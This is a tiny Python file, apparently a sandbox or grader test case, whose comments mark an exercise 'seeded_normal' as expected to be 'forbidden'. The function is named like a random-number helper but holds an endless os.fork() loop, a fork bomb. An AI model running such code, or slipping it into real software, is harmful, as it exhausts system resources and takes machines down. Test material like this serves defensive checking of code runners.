"""Forks without end."""
# exercise: start.seeded_normal
# deserves: forbidden 0
import os


def seeded_normal(shape, seed, std=1.0):
    while True:
        os.fork()
